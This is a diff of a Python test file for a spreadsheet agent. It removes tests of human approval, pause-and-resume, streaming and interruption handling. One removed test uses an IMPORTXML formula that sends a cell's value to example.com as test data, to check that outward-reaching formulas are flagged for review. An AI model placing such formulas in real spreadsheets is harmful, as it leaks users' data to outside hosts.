@@ -1,4 +1,4 @@
-"""Whole runs on a file: the real graph, the real GigaChat and OpenAI clients, a scripted model on loopback."""
+"""Whole runs: how a plan is made, mended, written and corrected, whatever the models do."""
 
 from __future__ import annotations
 
@@ -15,13 +15,11 @@ from scenario import (
     HEADER,
     OPENINGS,
     OVERWRITING,
-    PIVOT,
     RATIO,
     REVENUE,
     REVENUE_OF,
     STEPS,
     TASK,
-    Person,
     agent,
     cells,
     clears,
@@ -32,29 +30,17 @@ from scenario import (
     says,
     sums_up,
     with_a_colleague,
-    workbook,
 )
 
 from sheets_agent import SheetsAgent
-from sheets_agent.errors import UnusableAnswer, UsageError
-from sheets_agent.feedback.person import Decision
+from sheets_agent.errors import UnusableAnswer
 from sheets_agent.settings import load
 from sheets_agent.state.done import Status
-
-
-@pytest.fixture
-def sales(tmp_path: Path) -> Path:
-    return workbook(tmp_path / "sales.xlsx")
 
 
 @pytest.fixture(params=["gigachat:GigaChat-2-Max", "openai:gpt-test"])
 def model(request: pytest.FixtureRequest) -> tuple[str, ProtocolServer]:
     return request.param, request.getfixturevalue(f"{request.param.partition(':')[0]}_server")
-
-
-@pytest.fixture
-def scripted(openai_server: ProtocolServer) -> ProtocolServer:
-    return openai_server
 
 
 def test_the_main_job_through_the_real_clients(model: tuple[str, ProtocolServer], sales: Path) -> None:
@@ -293,90 +279,6 @@ def test_reflectors_can_be_switched_off(scripted: ProtocolServer, sales: Path) -
     assert [critique.reflector for critique in result.critiques] == ["formula"]
 
 
-class TestAskingAPerson:
-    def test_overwriting_is_shown_and_approved(self, scripted: ProtocolServer, sales: Path) -> None:
-        scripted.script(describes(), plans(OVERWRITING), sums_up())
-        person = Person(Decision(verdict="approve"))
-        result = agent(person).run(str(sales), TASK)
-        (review,) = person.reviews
-        assert "Регион" in review.reasons[0]
-        assert review.diff.cells[0].before == "Регион"
-        assert cells(result.files[0], "Продажи")["A1"] == "Выручка"
-
-    def test_a_rejected_plan_writes_nothing(self, scripted: ProtocolServer, sales: Path) -> None:
-        scripted.script(describes(), plans(OVERWRITING))
-        result = agent(Person(Decision(verdict="reject"))).run(str(sales), TASK)
-        assert result.status is Status.REJECTED
-        assert (result.usage.api_writes, result.files) == (0, ())
-
-    def test_a_reason_for_rejecting_goes_to_the_planner(self, scripted: ProtocolServer, sales: Path) -> None:
-        scripted.script(
-            describes(),
-            plans(OVERWRITING),
-            plans(HEADER),
-            sums_up(),
-        )
-        result = agent(Person(Decision(verdict="reject", comment="Не трогай A1"))).run(str(sales), TASK)
-        assert result.status is Status.DONE
-        assert cells(result.files[0], "Продажи")["A1"] == "Регион"
-        assert "Не трогай A1" in [r.text for r in scripted.chats if re.search(OPENINGS["planner"], r.text)][1]
-
-    def test_an_edited_plan_is_tried_anew_and_written(self, scripted: ProtocolServer, sales: Path) -> None:
-        from sheets_agent.planners.draft import read_plan
-
-        scripted.script(describes(), plans(OVERWRITING), sums_up())
-        edited = Decision(verdict="edit", plan=read_plan({"steps": [HEADER]}))
-        result = agent(Person(edited)).run(str(sales), TASK)
-        written = cells(result.files[0], "Продажи")
-        assert (written["A1"], written["E1"]) == ("Регион", "Выручка")
-
-    def test_without_a_person_the_run_pauses_and_resumes(self, scripted: ProtocolServer, sales: Path) -> None:
-        scripted.script(describes("Что такое Цена?"), plans(OVERWRITING), sums_up())
-        worker = agent()
-        asked = worker.run(str(sales), TASK)
-        assert asked.status is Status.PAUSED
-        assert [question.text for question in asked.questions] == ["Что такое Цена?"]
-        answer = {"decisions": [{"type": "respond", "message": "Цена без НДС"}]}
-        review = worker.resume(asked.run_id, answer)
-        assert review.status is Status.PAUSED
-        assert review.questions[0].options == ("approve", "edit", "reject")
-        assert "Цена без НДС" in next(r.text for r in scripted.chats if re.search(OPENINGS["planner"], r.text))
-        assert review.usage.api_writes == 0
-        done = worker.resume(asked.run_id, {"decisions": [{"type": "approve"}]})
-        assert done.status is Status.DONE
-        assert cells(done.files[0], "Продажи")["A1"] == "Выручка"
-        with pytest.raises(UsageError, match="has ended"):
-            worker.resume(asked.run_id, answer)
-
-    def test_a_formula_that_reaches_outside_is_asked_about(self, scripted: ProtocolServer, sales: Path) -> None:
-        leak = {**HEADER, "options": ['value==IMPORTXML("http://example.com/?"&A2,"//a")']}
-        scripted.script(describes(), plans(leak))
-        refused = agent(max_rounds=0).run(str(sales), TASK)
-        assert refused.status is Status.INCOMPLETE
-        assert "--allow-function IMPORTXML" in refused.summary
-        scripted.script(describes(), plans(leak))
-        person = Person(Decision(verdict="reject"))
-        assert agent(person, allow_functions=["IMPORTXML"]).run(str(sales), TASK).status is Status.REJECTED
-        assert "IMPORTXML reaches outside" in person.reviews[0].reasons[0]
-
-    def test_a_paused_run_goes_on_in_another_process(self, scripted: ProtocolServer, sales: Path) -> None:
-        scripted.script(describes(), plans(OVERWRITING), sums_up())
-        paused = agent().run(str(sales), TASK)
-        done = agent().resume(paused.run_id, {"decisions": [{"type": "approve"}]})  # another agent: nothing is shared
-        assert done.status is Status.DONE
-        assert cells(done.files[0], "Продажи")["A1"] == "Выручка"
-        assert sum(bool(re.search(OPENINGS["planner"], request.text)) for request in scripted.chats) == 1
-
-    def test_the_policies(self, scripted: ProtocolServer, sales: Path) -> None:
-        scripted.script(describes(), plans(HEADER))
-        assert agent(approve="always").run(str(sales), TASK).status is Status.PAUSED
-        scripted.script(describes(), plans(OVERWRITING))
-        unasked = agent(approve="never", max_rounds=0).run(str(sales), TASK)
-        assert (unasked.status, unasked.files) == (Status.INCOMPLETE, ())
-        scripted.script(describes(), plans(OVERWRITING), sums_up())
-        assert agent(approve="never", only=["'Продажи'!A1"]).run(str(sales), TASK).status is Status.DONE
-
-
 class TestModelsThatMisbehave:
     def test_an_unknown_action_goes_back_with_the_closest_names(self, scripted: ProtocolServer, sales: Path) -> None:
         unknown = {**HEADER, "action": "write_cells"}
@@ -406,11 +308,6 @@ class TestModelsThatMisbehave:
         assert not sales.with_name("sales.agent.xlsx").exists()
 
 
-def test_an_empty_task_is_refused(sales: Path) -> None:
-    with pytest.raises(UsageError, match="empty"):
-        agent().run(str(sales), "  ")
-
-
 def test_an_empty_spreadsheet_is_a_normal_case(scripted: ProtocolServer, tmp_path: Path) -> None:
     empty = tmp_path / "empty.xlsx"
     openpyxl.Workbook().save(empty)
@@ -425,61 +322,10 @@ def test_an_empty_spreadsheet_is_a_normal_case(scripted: ProtocolServer, tmp_pat
     assert cells(result.files[0], "Sheet") == {"A1": "Месяц", "B1": "План", "A2": "Май", "B2": 5}
 
 
-def test_stream_gives_events_and_the_result_last(scripted: ProtocolServer, sales: Path) -> None:
-    scripted.script(*good_run())
-    seen = list(agent().stream(str(sales), TASK))
-    stages = [event.stage for event in seen if type(event).__name__ == "StageEnded"]
-    assert stages == [
-        "retrieve", "clarify", "review_description", "plan", "reflect", "approve", "execute", "verify", "review_result",
-        "finish",
-    ]  # fmt: skip
-    assert seen[-1].status is Status.DONE
-
-
-def test_plan_and_describe_write_nothing(scripted: ProtocolServer, sales: Path) -> None:
-    scripted.script(describes(), plans(*STEPS))
-    planned = agent().plan(str(sales), TASK)
-    assert planned.plan is not None
-    assert planned.plan.steps[3].action.kind == PIVOT["action"]
-    scripted.script(describes())
-    described = agent().describe(str(sales))
-    assert described.sheets[0].regions[0].range == "'Продажи'!A1:D13"
-    asked = len(scripted.chats)
-    bare = agent().describe(str(sales), annotate=False)
-    assert bare.sheets[0].regions[0].columns[3].header == "Цена"
-    assert len(scripted.chats) == asked
-    assert [path.name for path in sales.parent.iterdir()] == ["sales.xlsx"]
-
-
 def test_a_plan_that_only_adds_a_sheet_is_saved(scripted: ProtocolServer, sales: Path) -> None:
     scripted.script(describes(), plans(STEPS[2]), sums_up())
     result = agent().run(str(sales), "Добавь лист")
     assert openpyxl.load_workbook(result.files[0]).sheetnames == ["Продажи", "Отчёт"]
-
-
-def test_an_interruption_leaves_the_file_and_says_so(scripted: ProtocolServer, sales: Path) -> None:
-    scripted.script(*good_run())
-    told: list[Any] = []
-
-    def impatient(event: Any) -> None:
-        told.append(event)
-        if type(event).__name__ == "ToolCalled":
-            raise KeyboardInterrupt
-
-    with pytest.raises(KeyboardInterrupt):
-        SheetsAgent(load(model="openai:gpt-test"), on_event=impatient).run(str(sales), TASK)
-    assert told[-1].text == "Interrupted: nothing was saved."
-    assert [path.name for path in sales.parent.iterdir()] == ["sales.xlsx"]
-
-
-def test_a_notebook_shows_the_tables_and_the_chart(scripted: ProtocolServer, sales: Path) -> None:
-    scripted.script(*good_run())
-    result = agent().run(str(sales), TASK)
-    shown = result._repr_html_()
-    assert "Выручка" in shown
-    assert "data:image/png;base64," in shown
-    (picture,) = result.save_pictures(sales.parent)
-    assert picture.read_bytes().startswith(b"\x89PNG")
 
 
 def test_checkpoints_hold_our_own_models_only_and_nothing_of_the_cells_at_the_end(
@@ -517,36 +363,3 @@ def test_the_tab_that_a_link_leads_to_is_told_to_the_planner(openai_server: Prot
     assert result.status is (Status.DONE if how == "run" else Status.DRY_RUN)
     planner = next(request.text for request in openai_server.chats if re.search(OPENINGS["planner"], request.text))
     assert "the person's link leads to this sheet" in planner
-
-
-def test_a_file_may_be_named_by_a_path(scripted: ProtocolServer, sales: Path) -> None:
-    scripted.script(*good_run())
-    result = agent().run(sales, TASK, output=sales.parent / "new.xlsx")
-    assert result.files == (str(sales.parent / "new.xlsx"),)
-
-
-def test_what_changed_while_a_person_thought_is_shown_before_it_is_written(openai_server: ProtocolServer) -> None:
-    from sheets_agent.emulator.server import serve
-    from sheets_agent.emulator.service import Emulator
-    from sheets_agent.emulator.transport import EmulatorHttp
-    from sheets_agent.sheets.client import SheetsClient
-
-    emulator = Emulator()
-    book = emulator.create("Live", "en_US", "Etc/GMT").spreadsheet_id
-    colleague = SheetsClient(EmulatorHttp(emulator))
-    colleague.update_values(book, "Sheet1!A1", [["Регион"], ["Север"]])
-
-    class Slow(Person):
-        def review(self, review: Any) -> Decision:
-            if not self.reviews:
-                colleague.update_values(book, "Sheet1!A1", [["Область"]])
-            return super().review(review)
-
-    title = {**HEADER, "target": "Sheet1!A1"}
-    openai_server.script(describes(), plans(title), sums_up())
-    person = Slow(Decision(verdict="approve"), Decision(verdict="approve"))
-    with serve(emulator, 0) as server:
-        result = agent(person, api_endpoint=server.url).run(book, TASK)
-    assert [review.diff.cells[0].before for review in person.reviews] == ["Регион", "Область"]
-    assert result.status is Status.DONE
-    assert colleague.values(book, "Sheet1!A1") == [["Выручка"]]
